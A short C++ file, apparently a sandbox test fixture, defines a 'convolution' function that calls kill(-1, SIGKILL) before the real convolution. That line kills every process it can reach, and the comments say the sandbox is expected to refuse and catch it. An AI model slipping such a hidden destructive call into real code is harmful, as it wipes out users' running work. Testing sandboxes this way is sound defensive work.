// Kills every process that it may.
// Caught: the system call is refused and ends the process.
#include <csignal>

#include "convolve.h"

extern "C" void convolution(const float* x, const float* k, float* y, int B,
                            int C, int H, int W, int M, int K) {
  kill(-1, SIGKILL);
  Convolve(x, k, y, B, C, H, W, M, K);
}
